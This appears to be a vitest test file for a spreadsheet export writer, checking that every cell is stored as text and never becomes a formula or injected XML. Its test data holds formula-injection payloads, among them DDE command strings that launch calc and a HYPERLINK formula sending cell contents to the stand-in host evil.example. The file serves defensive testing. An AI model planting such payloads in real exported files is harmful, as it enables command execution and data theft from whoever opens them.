/** Every exported table is written by this one workbook writer: a cell is always text, whatever it starts with. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { writeWorkbook } from './workbook.ts';

const formulas: readonly string[] = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"点我")',
  '=1+1',
  '+1+1',
  '-2+3+cmd|calc',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  "'=1+1",
  '"=1+1',
  '_x003D_1+1',
  '</t></is></c><c r="Z9"><f>1+1</f></c>',
  ']]><f>1+1</f>',
];

const unescaped = (text: string) =>
  text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&')
    .replaceAll('_x005F_', '_');

describe('a cell', () => {
  it.each(formulas)('with %j is that text in any position', (value) => {
    const row = { values: [value, 1] };
    const sheet = {
      name: '表',
      widths: [10, 10],
      header: [value, '数'],
      rows: [row, { ...row, isTitle: true }],
    };
    const files = unzipSync(writeWorkbook([sheet]));
    const xml = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(xml).not.toMatch(/<f[\s>/]/);
    const cells = [
      ...xml.matchAll(/<c r="A\d+" s="\d" t="inlineStr"><is><t xml:space="preserve">(.*?)<\/t>/gs),
    ];
    // XML cannot contain a carriage return: it is shown as the replacement character.
    const shown = value.replaceAll('\r', '\ufffd');
    expect(cells.map(([, text = '']) => unescaped(text))).toEqual([shown, shown, shown]);
    // No part of it became a separate cell.
    expect(xml.match(/<c /g)).toHaveLength(6);
  });
});

it('has a place of its own in a table of any width', () => {
  const header = Array.from({ length: 800 }, (_, index) => String(index));
  const files = unzipSync(writeWorkbook([{ name: '表', widths: [], header, rows: [] }]));
  const xml = strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  const places = [...xml.matchAll(/<c r="([A-Z]+)1"/g)].map(([, column]) => column);
  expect(places.filter((_, index) => [0, 25, 26, 51, 52, 701, 702, 799].includes(index))).toEqual([
    'A',
    'Z',
    'AA',
    'AZ',
    'BA',
    'ZZ',
    'AAA',
    'ADT',
  ]);
});

it('was tested as often as the security document says', () => {
  const told = readFileSync(join(import.meta.dirname, '../../../docs/security.md'), 'utf8');
  expect(told).toContain(
    `| cells of workbooks that begin as formulas do, or carry markup | ${formulas.length} |`,
  );
});

it('is written only here, and no table is exported as CSV', () => {
  const root = join(import.meta.dirname, '../../..');
  const sources = ['writers/src', 'apps/server/src'].flatMap((folder) =>
    readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' })
      .filter((name) => name.endsWith('.ts') && !/\.(test|testing)\.ts$/.test(name))
      .map((name) => join(folder, name)),
  );
  const writing = sources.filter((path) =>
    /spreadsheetml\/2006\/main|text\/csv/.test(readFileSync(join(root, path), 'utf8')),
  );
  expect(writing).toEqual(['writers/src/report/workbook.ts']);
});
